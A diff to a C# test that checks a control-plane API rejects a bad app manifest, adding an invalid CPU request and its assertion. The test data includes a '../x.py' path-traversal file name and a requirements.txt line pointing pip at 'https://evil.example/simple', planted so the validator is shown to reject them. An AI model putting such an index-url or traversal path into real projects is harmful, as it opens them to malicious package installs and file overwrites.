@@ -200,7 +200,7 @@ public sealed class ResourceApiTests(ControlPlaneFixture server) : IClassFixture
         var manifest = Apps.Manifest("Bad_Name");
         manifest["spec"] = JsonNode.Parse("""
             {"files":[{"path":"../x.py","content":""},{"path":"requirements.txt","content":"--index-url https://evil.example/simple"}],
-             "entrypoint":"main.py","replicas":50}
+             "entrypoint":"main.py","replicas":50,"resources":{"requests":{"cpu":"lots"}}}
             """);
 
         var (status, body) = await http.PostJsonAsync(Apps.Collection("acme"), manifest);
@@ -213,6 +213,7 @@ public sealed class ResourceApiTests(ControlPlaneFixture server) : IClassFixture
         Assert.Contains("spec.files[1].content", fields);
         Assert.Contains("spec.entrypoint", fields);
         Assert.Contains("spec.replicas", fields);
+        Assert.Contains("spec.resources.requests.cpu", fields);
     }
 
     [Fact]
